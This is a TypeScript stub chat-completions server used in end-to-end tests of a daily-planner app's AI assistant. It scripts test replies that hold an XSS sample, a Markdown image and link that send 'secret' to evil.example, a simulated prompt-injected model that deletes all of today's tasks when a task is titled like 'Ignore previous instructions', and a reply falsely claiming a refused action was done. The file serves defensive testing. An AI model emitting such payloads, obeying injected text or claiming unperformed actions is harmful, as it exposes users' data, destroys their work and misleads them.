// An OpenAI-compatible chat completions server for the journeys (started by playwright.config.ts
// next to the app, which gets OPENAI_BASE_URL pointing here). Plain and streamed, like the
// server's protocol test servers (src/server/test/ai-test-servers.ts), with the reply chosen by
// the user's last message so that each journey can ask for what it checks:
//  - "[html]": a reply carrying raw HTML (<img onerror>, <script>) that must show as text;
//  - "[slow]": a long reply streamed in pieces, its last one held until the journey asks for it
//    (POST /release), so the page is seen mid-reply however busy the machine;
//  - "[exfil]": a reply naming an image and a link on another host, and a wide code block;
//  - "[fail]": a 500 from the provider;
//  - anything else: a short Markdown plan, streamed in a few pieces.
// The insights' wording calls (src/server/modules/insights/insights-wording.ts) are told apart by
// their system prompt: daily insights come back worded as they were sent (the JSON asked for), the
// weekly summary text is WEEKLY_SUMMARY_REPLY.
// A goal breakdown (a request with a JSON schema in `response_format`) is answered with
// BREAKDOWN_SUGGESTIONS as the structured object, or, when "[prose]" appears anywhere in the
// request (the user's Additional Context), with prose that holds no list: the placeholder path.
// The assistant's tools (decision 033), for a chat request that offers them:
//  - a message containing "move the report to tomorrow" (any case; e.g. "Move the report to
//    tomorrow and add 'Call the bank' at 3 pm"): search_tasks {query: "report"}, then, from its
//    answer, move_tasks of the first task titled like "report" to "tomorrow" and create_tasks of
//    'Call the bank' today at 15:00, then MOVE_REPLY;
//  - a message containing "at 3pm sharp": create_tasks with the start time "3pm", which the server
//    refuses (not HH:MM), then REFUSED_CLAIM_REPLY, a model claiming what did not happen;
//  - a prompt whose user data holds a task titled like "Ignore previous instructions..." (and
//    any message without another trigger): a model so injected, it calls delete_tasks on every task
//    of today listed in the prompt, then INJECTED_REPLY. Nothing is deleted until the user applies.
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";

export const AI_STUB_API_KEY = "e2e-openai-key-0123456789";
const port = Number(process.env.AI_STUB_PORT ?? 4210);

export const HTML_REPLY =
  'Careful: <img src=x onerror="window.__aiXss=1"> and <script>window.__aiXss=2</script> stay text. **Bold is fine.**';
export const DEFAULT_REPLY =
  "Here is a plan for your day:\n\n1. **Deep work** on your top goal\n2. Answer messages after lunch\n3. Review tomorrow";
export const WEEKLY_SUMMARY_REPLY = "A steady week: you finished what mattered most and kept your goals moving.";
export const EXFIL_REPLY =
  "Your chart: ![chart](https://evil.example/pixel.png?q=secret) and [the report](https://evil.example/report?q=secret).\n\n" +
  "```\nconst plan = " +
  JSON.stringify(Array.from({ length: 12 }, (_, index) => `a long task name number ${index}`)) +
  ";\n```";
export const MOVE_REPLY = "I've proposed moving the report to tomorrow and adding 'Call the bank' at 15:00. Apply it below.";
export const INJECTED_REPLY = "I've proposed deleting all your tasks.";
export const REFUSED_CLAIM_REPLY = "I have handled that.";
const BAD_TIME_TRIGGER = "at 3pm sharp";
const SLOW_PIECES = ["Let's take this ", "one step ", "at a time. ", "First, breathe. ", "Then pick ", "one small task."];

interface Reply {
  pieces: string[];
  gapMs: number;
  holdsLast?: boolean;
}

/** Held replies waiting for their last piece, and releases asked for before their reply held. */
const held: (() => void)[] = [];
let releasesAhead = 0;
const HOLD_LIMIT_MS = 30_000;

function waitForRelease(): Promise<void> {
  if (releasesAhead > 0) {
    releasesAhead -= 1;
    return Promise.resolve();
  }
  return new Promise((resolve) => {
    const release = () => {
      clearTimeout(timer);
      resolve();
    };
    const timer = setTimeout(() => {
      held.splice(held.indexOf(release), 1);
      resolve();
    }, HOLD_LIMIT_MS);
    held.push(release);
  });
}

function replyFor(message: string, system = ""): Reply | "fail" {
  if (system.includes("You rewrite short insights for a personal daily planner")) return { pieces: [message], gapMs: 0 };
  if (system.includes("You write the weekly summary of a personal daily planner")) return { pieces: [WEEKLY_SUMMARY_REPLY], gapMs: 0 };
  if (message.includes("[fail]")) return "fail";
  if (message.includes("[html]")) return { pieces: [HTML_REPLY.slice(0, 30), HTML_REPLY.slice(30)], gapMs: 20 };
  if (message.includes("[slow]")) return { pieces: SLOW_PIECES, gapMs: 100, holdsLast: true };
  if (message.includes("[exfil]")) return { pieces: EXFIL_REPLY.match(/[\s\S]{1,40}/g) ?? [EXFIL_REPLY], gapMs: 20 };
  const pieces = DEFAULT_REPLY.match(/[\s\S]{1,24}/g) ?? [DEFAULT_REPLY];
  return { pieces, gapMs: 60 };
}

const BREAKDOWN_SUGGESTIONS = [
  { title: "Outline the chapters", description: "List the chapters and one line on each.", estimatedDuration: 60, priority: "high" },
  { title: "Write chapter one", description: "A first draft, rough is fine.", estimatedDuration: 120, priority: "high" },
  { title: "Find a proofreader", description: "Ask two friends or hire one.", estimatedDuration: 30, priority: "medium" },
  { title: "Design the cover", description: "Sketch three ideas.", estimatedDuration: 45, priority: "low" },
];
// e2e/goal-breakdown.spec.ts expects this text (importing this file would start the server).
const BREAKDOWN_PROSE = "Start with an outline, then write a little every morning. Ask for feedback early.";

function breakdownReply(body: unknown): string | null {
  const format = (body as { response_format?: { type?: string } } | null)?.response_format;
  if (format?.type !== "json_schema") return null;
  return JSON.stringify(body).includes("[prose]") ? BREAKDOWN_PROSE : JSON.stringify({ tasks: BREAKDOWN_SUGGESTIONS });
}

interface ToolCall {
  name: string;
  input: unknown;
}
type Message = { role: string; content: unknown; tool_calls?: unknown[] };

/** The JSON between <user-data> markers in `text`, or null. */
function userData(text: string): Record<string, unknown> | null {
  const match = /<user-data>\n([\s\S]*?)\n<\/user-data>/.exec(text);
  if (!match) return null;
  try {
    return JSON.parse(match[1]!) as Record<string, unknown>;
  } catch {
    return null;
  }
}

/** The tool calls a model would make for this request, or null for a text answer. */
function toolCallsFor(body: unknown): ToolCall[] | null {
  const request = (body ?? {}) as { tools?: unknown[]; messages?: Message[] };
  if (!request.tools?.length) return null;
  const messages = request.messages ?? [];
  const round = messages.filter((message) => message.role === "assistant" && (message.tool_calls?.length ?? 0) > 0).length;
  const message = lastUserMessage(body).toLowerCase();
  if (message.includes("move the report to tomorrow")) {
    if (round === 0) return [{ name: "search_tasks", input: { query: "report" } }];
    if (round > 1) return null;
    const answer = messages.filter((entry) => entry.role === "tool").at(-1)?.content;
    const found = (userData(typeof answer === "string" ? answer : JSON.stringify(answer))?.tasks ?? []) as { id: string; title: string }[];
    const report = found.find((task) => /report/i.test(task.title));
    const today = userData(systemMessage(body))?.today;
    return [
      ...(report ? [{ name: "move_tasks", input: { taskIds: [report.id], date: "tomorrow" } }] : []),
      { name: "create_tasks", input: { tasks: [{ title: "Call the bank", date: today, scheduledStartTime: "15:00" }] } },
    ];
  }
  if (message.includes(BAD_TIME_TRIGGER)) {
    return round === 0 ? [{ name: "create_tasks", input: { tasks: [{ title: "Call the bank", scheduledStartTime: "3pm" }] } }] : null;
  }
  const tasks = (userData(systemMessage(body))?.tasksToday ?? []) as { id: string; title: string }[];
  if (round === 0 && tasks.some((task) => /ignore previous instructions/i.test(task.title))) {
    return [{ name: "delete_tasks", input: { taskIds: tasks.map((task) => task.id) } }];
  }
  return null;
}

/** The text after the tool calls of `toolCallsFor`. */
function afterToolsReply(body: unknown): string | null {
  const messages = ((body ?? {}) as { messages?: Message[] }).messages ?? [];
  if (!messages.some((message) => message.role === "tool")) return null;
  const message = lastUserMessage(body).toLowerCase();
  if (message.includes(BAD_TIME_TRIGGER)) return REFUSED_CLAIM_REPLY;
  return message.includes("move the report to tomorrow") ? MOVE_REPLY : INJECTED_REPLY;
}

function lastUserMessage(body: unknown): string {
  const messages = (body as { messages?: { role: string; content: unknown }[] } | null)?.messages ?? [];
  const last = [...messages].reverse().find((entry) => entry.role === "user");
  const content = last?.content;
  if (typeof content === "string") return content;
  if (Array.isArray(content)) return content.map((part: { text?: string }) => part.text ?? "").join("");
  return "";
}

function systemMessage(body: unknown): string {
  const messages = (body as { messages?: { role: string; content: unknown }[] } | null)?.messages ?? [];
  const system = messages.find((entry) => entry.role === "system")?.content;
  return typeof system === "string" ? system : "";
}

const chunk = (delta: Record<string, unknown>, finishReason: string | null = null) =>
  `data: ${JSON.stringify({
    id: "chatcmpl-e2e",
    object: "chat.completion.chunk",
    created: 1_700_000_000,
    model: "e2e-model",
    choices: [{ index: 0, delta, finish_reason: finishReason }],
  })}\n\n`;

/** The chat completions answer calling `calls`: one message, or streamed argument deltas. */
function sendToolCalls(res: ServerResponse, calls: readonly ToolCall[], stream: boolean): void {
  const toolCalls = calls.map((call, index) => ({
    id: `call_${index}`,
    type: "function",
    function: { name: call.name, arguments: JSON.stringify(call.input) },
  }));
  if (!stream) {
    res.writeHead(200, { "content-type": "application/json" }).end(
      JSON.stringify({
        id: "chatcmpl-e2e",
        object: "chat.completion",
        created: 1_700_000_000,
        model: "e2e-model",
        choices: [{ index: 0, message: { role: "assistant", content: null, tool_calls: toolCalls }, finish_reason: "tool_calls" }],
        usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
      }),
    );
    return;
  }
  res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
  res.write(chunk({ role: "assistant", content: null }));
  toolCalls.forEach((call, index) => res.write(chunk({ tool_calls: [{ index, ...call }] })));
  res.write(chunk({}, "tool_calls"));
  res.end("data: [DONE]\n\n");
}

async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
  if (req.method === "GET" && req.url === "/health") {
    res.writeHead(200).end("ok");
    return;
  }
  if (req.method === "POST" && req.url === "/release") {
    const release = held.shift();
    if (release) release();
    else releasesAhead += 1;
    res.writeHead(204).end();
    return;
  }
  const raw: Buffer[] = [];
  for await (const part of req) raw.push(part as Buffer);
  let body: unknown = null;
  try {
    body = JSON.parse(Buffer.concat(raw).toString("utf8"));
  } catch {
    // Answered 400 below.
  }
  if (req.method !== "POST" || !req.url?.startsWith("/v1/chat/completions") || body === null) {
    res.writeHead(404, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "not found" } }));
    return;
  }
  if (req.headers.authorization !== `Bearer ${AI_STUB_API_KEY}`) {
    res.writeHead(401, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "bad key" } }));
    return;
  }
  const toolCalls = toolCallsFor(body);
  if (toolCalls) return sendToolCalls(res, toolCalls, (body as { stream?: boolean }).stream === true);
  const breakdown = breakdownReply(body);
  const afterTools = afterToolsReply(body);
  const reply: Reply | "fail" =
    breakdown !== null
      ? { pieces: [breakdown], gapMs: 0 }
      : afterTools !== null
        ? { pieces: afterTools.match(/[\s\S]{1,24}/g) ?? [afterTools], gapMs: 20 }
        : replyFor(lastUserMessage(body), systemMessage(body));
  if (reply === "fail") {
    res.writeHead(500, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "boom" } }));
    return;
  }
  const text = reply.pieces.join("");
  if ((body as { stream?: boolean }).stream !== true) {
    res.writeHead(200, { "content-type": "application/json" }).end(
      JSON.stringify({
        id: "chatcmpl-e2e",
        object: "chat.completion",
        created: 1_700_000_000,
        model: "e2e-model",
        choices: [{ index: 0, message: { role: "assistant", content: text }, finish_reason: "stop" }],
        usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
      }),
    );
    return;
  }
  res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
  res.write(chunk({ role: "assistant", content: "" }));
  for (const [index, piece] of reply.pieces.entries()) {
    if (reply.holdsLast && index === reply.pieces.length - 1) await waitForRelease();
    res.write(chunk({ content: piece }));
    await new Promise((resolve) => setTimeout(resolve, reply.gapMs));
  }
  res.write(chunk({}, "stop"));
  res.end("data: [DONE]\n\n");
}

createServer((req, res) => {
  handle(req, res).catch(() => res.destroy());
}).listen(port, "127.0.0.1");
